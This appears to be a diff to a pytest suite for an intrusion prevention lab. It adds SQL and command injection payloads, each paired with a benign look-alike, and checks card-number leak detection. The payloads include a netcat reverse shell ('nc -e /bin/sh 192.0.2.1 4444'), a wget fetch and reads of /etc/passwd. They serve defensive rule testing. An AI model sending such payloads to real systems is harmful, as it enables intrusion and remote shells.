@@ -19,6 +19,7 @@ from dataclasses import replace
 from email.message import EmailMessage
 from email.policy import SMTP
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
@@ -62,6 +63,7 @@ PUBLISHED = (
 )
 HARMLESS = (
     *("550e8400-e29b-41d4-a716-446655440000", "0.4111111111111111", "41111111111111111111", "a4111111111111111f", "1732406400123"),
+    *("4111   1111   1111   1111", "41111\t111111\t11111", "4111\t1111\t1111\t1112", "4111--1111  1111- 1112"),
     *("2026-11-24 00:33:12 4111", "+49 4111 111", "9999999999999999", "411111111111111", "4111 1111 1111 1112"),
 )
 HOSTILE = (r"a/b\/c", 'say "no"', "x;y", r"tail\\", r"[/\";]{3}", r"\Aabc", r"(?P<pkt_x>id)=\d+", "drop#$HOME_NET", "k|6b|k")
@@ -148,6 +150,68 @@ def test_the_canary_is_seen_between_zones_too_where_packets_cross_the_ips_twice(
     assert (passed.arrived, passed.logged) == (True, set())
 
 
+# --- attacks beyond the probes, each with what is much like it
+
+
+def form(text: str) -> bytes:
+    return http_request("/", "Content-Type: application/x-www-form-urlencoded\r\n", text.encode(), "POST")
+
+
+def fields(*values: str) -> bytes:
+    """What `curl -F` sends."""
+    parts = "".join(f'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n{value}\r\n' for value in values)
+    return http_request("/", "Content-Type: multipart/form-data; boundary=b\r\n", f"{parts}--b--\r\n".encode(), "POST")
+
+
+def json_body(text: str) -> bytes:
+    return http_request("/", "Content-Type: application/json\r\n", text.encode(), "POST")
+
+
+def search(value: str) -> bytes:
+    return http_request(f"/?q={quote(value, safe='')}")
+
+
+UNION, ALWAYS_TRUE, SQL_BODY, COMMAND, COMMAND_BODY = 1500001, 1500002, 1500004, 1500020, 1500021
+ATTACKS = {
+    "union right after a quote": (UNION, search("-1'UNION SELECT 1"), search("union select committee")),
+    "union after a quote, columns": (UNION, search("x')union/**/all select name from users"), search('"union select committee"')),
+    "union without spaces": (UNION, search("1 union(select 1)"), search("1 union (selected works)")),
+    "or between quotes": (ALWAYS_TRUE, search("1'or'1'='1"), search("rock'n'roll or pop")),
+    "or between quotes, not encoded": (ALWAYS_TRUE, http_request("/?id=1'or'1'='1"), http_request("/?id=1'or'1'&b='1")),
+    "bars between quotes": (ALWAYS_TRUE, search("1'||'1'='1"), search("1'||'1'='2")),
+    "comments for spaces": (ALWAYS_TRUE, search("1'/**/or/**/1=1--"), search("1'/**/or/**/one=1")),
+    "number": (ALWAYS_TRUE, http_request("/?id=1%20or%201=1"), search("1 or 2")),
+    "number, in brackets": (ALWAYS_TRUE, search("-1) or (7=7"), search("2 or 3=31")),
+    "number, in the path": (ALWAYS_TRUE, http_request("/item/5+OR+1=1"), http_request("/item/5+OR+1=12")),
+    "word that is true": (ALWAYS_TRUE, search("' or true--"), search("O'Neill or O'Hara or true--crime")),
+    "nothing is nothing": (ALWAYS_TRUE, search("' or ''='"), search("' or '='")),
+    "quotes in JSON": (SQL_BODY, json_body(r'{"user":"a\" or \"1\"=\"1"}'), json_body(r'{"user":"a\" or \"1\"","b":"1=1"}')),
+    "number in JSON": (SQL_BODY, json_body('{"id":"1 or 1=1"}'), json_body('{"id":"1 or 2", "or":"1=1"}')),
+    "form": (SQL_BODY, form("user=a'or'1'='1&x=y"), form("user=O'Neill or O'Hara&x=1")),
+    "dollar for a space": (COMMAND, http_request("/?h=a|cat$IFS/etc/hosts"), http_request("/?h=a|cat$IF/etc/hosts")),
+    "line": (COMMAND, http_request("/?h=a%0Aid%0A"), http_request("/?h=a%0AID%0A")),
+    "netcat": (COMMAND, search("a|nc 192.0.2.1 4444"), search("Raleigh;nc 27601")),
+    "cat": (COMMAND_BODY, form("host=a;cat /etc/passwd"), form("host=a; cat and /dog")),
+    "cat, dollar for a space": (COMMAND_BODY, form("host=a|cat${IFS}/etc/hosts"), form("host=a|cat${IF}/etc/hosts")),
+    "replaced": (COMMAND_BODY, form("host=$(id)&x=y"), form("host=$(idle)&x=y")),
+    "in backticks": (COMMAND_BODY, form("host=a`id`&x=y"), form("text=the column `id` is the key")),
+    "value in backticks": (COMMAND_BODY, json_body('{"host":"`whoami`"}'), json_body('{"text":"`whoami` prints a name"}')),
+    "netcat in a body": (COMMAND_BODY, form("host=a | nc -e /bin/sh 192.0.2.1 4444"), form("address=Raleigh | NC 27601")),
+    "wget": (COMMAND_BODY, form("host=a %26%26 wget http://192.0.2.1/x"), form("host=a %26%26 wget it. Then")),
+    "field": (COMMAND_BODY, fields("a;id"), fields("name;id;price\r\nlamp;1;2")),
+    "between semicolons": (COMMAND_BODY, form("host=a;id;&x=y"), form("csv=name;id;price")),
+    "between bars": (COMMAND_BODY, form("host=|id|&x=y"), form("table=| name | id | price |")),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_is_stopped_by_its_rule_and_what_is_much_like_it_passes(shared: IpsLab, name: str) -> None:
+    sid, attack, innocent = ATTACKS[name]
+    stopped = shared.tcp(OUTSIDE4, WEB[0], 8000, attack)
+    assert (stopped.arrived, stopped.blocked) == (False, {sid})
+    assert shared.tcp(OUTSIDE4, WEB[0], 8000, innocent) == Seen(arrived=True, alerts=())
+
+
 # --- ordinary traffic
 
 
@@ -163,6 +227,14 @@ ORDINARY = {
         b'--b\r\nContent-Disposition: form-data; name="f"; filename="my.photo.png"\r\n\r\n' + bytes(range(256)) * 40 + b"\r\n--b--\r\n",
         "POST",
     ),
+    "fields": fields("ID", "id", "Jo Doe\r\nRaleigh\r\nNC 27601", "Read on.\r\nMore ...", "id\r\n1\r\n2"),
+    "field of one line": fields("ID"),
+    "address": fields("Jo Doe\nRaleigh\nNC 27601"),
+    "table": http_request("/", "Content-Type: text/csv\r\n", b"id\r\n1\r\n2\r\n", "POST"),
+    "table with columns": http_request("/", "Content-Type: text/csv\r\n", b"name;id\r\nlamp;1\r\n", "POST"),
+    "notes": form("note=try%20this:%0Als%0A...%0AFetch%20www.example.com%0Aid%0AMore%20.%0A"),
+    "sentences": form("note=Sit;+fetch+it.+Then+stay;+more+...+see+the+union;+select+1=1"),
+    "pop": search("rock'n'roll or pop, 1 or 2, 'union select committee' of O'Neill or O'Hara"),
     "browser": http_request(
         "/a/../b/./c.html?x=%3Cb%3E", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=b; c=d\r\nAccept: */*\r\n"
     ),
@@ -271,6 +343,11 @@ CLIENT_SENDS = {
     "raw with dashes": lambda n: b"row " + grouped(n, "-") + b"\n",
     "raw with spaces": lambda n: b"row " + grouped(n, " ") + b"\n",
     "between letters": lambda n: b"\\n" + n.encode() + b"D",
+    "raw with two spaces": lambda n: b"row " + grouped(n, "  ") + b"\n",
+    "raw with tabs": lambda n: b"row\t" + grouped(n, "\t") + b"\n",
+    "raw with spaces and dashes": lambda n: b"row " + grouped(n, " -") + b"\n",
+    "form with tabs": lambda n: upload(b"card=" + grouped(n, "%09")),
+    "form with two +": lambda n: upload(b"card=" + grouped(n, "++")),
     "in three segments": lambda n: [b"row " + n[:3].encode(), n[3:9].encode(), n[9:].encode() + b"\n"],
     "form": lambda n: upload(b"card=" + n.encode()),
     "form with %20": lambda n: upload(b"card=" + grouped(n, "%20")),
@@ -301,6 +378,13 @@ SERVER_SENDS = {
         gzip.compress(b"ab " * 800_000 + n.encode() + b" cd" * 800_000), "Content-Encoding: gzip\r\n"
     ),
     "header with %20": lambda n: answer(b"ok", f"X-Card: {grouped(n, '%20').decode()}\r\n"),
+    "cookie": lambda n: answer(b"ok", f"Set-Cookie: c={n}; Path=/\r\n"),
+    "cookie with %20": lambda n: answer(b"ok", f"Set-Cookie: c={grouped(n, '%20').decode()}; Path=/\r\n"),
+    "second cookie with %20": lambda n: answer(b"ok", f"Set-Cookie: a=b\r\nSet-Cookie: c={grouped(n, '%20').decode()}\r\n"),
+    "page with %20": lambda n: answer(b"card=" + grouped(n, "%20")),
+    "page with +": lambda n: answer(b"card=" + grouped(n, "+") + b"&x=y"),
+    "gzip with %20": lambda n: answer(gzip.compress(b"<p>" * 500 + grouped(n, "%20") + b"</p>" * 500), "Content-Encoding: gzip\r\n"),
+    "page with tabs": lambda n: answer(b"<p>" + grouped(n, "\t") + b"</p>"),
 }
 CARD_SIDS = {sid for (name, _), sid in rule_sids((CARDS, ORDERS)).items() if name == CARDS.id}
 
@@ -403,6 +487,16 @@ def test_a_pattern_counts(shared: IpsLab) -> None:
     assert stopped.blocked
     assert stopped.logged <= sids
     assert shared.tcp(API[0], OUTSIDE4, 80, upload(two)) == Seen(arrived=True, alerts=())
+
+
+def test_a_pattern_with_what_urls_decode_is_found_in_an_answer(own: IpsLab) -> None:
+    """In plain text that only the search of the decoded body, or only the other one, would find."""
+    detectors = (_detector("plus", r"key=a\+b%41", 1, ("app",)), _detector("decoded", "word=a bA", 1, ("app",)))
+    own.load(ips_files(with_detectors(DESIGN, *detectors)))
+    for good, near in ((b"key=a+b%41", b"key=a+b%42"), (b"word=a+b%41", b"word=a+b%42")):
+        stopped, passed = (answer(gzip.compress(text * 20), "Content-Encoding: gzip\r\n") for text in (good, near))
+        assert not own.tcp(OUTSIDE4, API[0], 8000, stopped, request=http_request()).arrived
+        assert own.tcp(OUTSIDE4, API[0], 8000, passed, request=http_request()) == Seen(arrived=True, alerts=())
 
 
 def test_the_log_holds_no_card_number(shared: IpsLab) -> None:
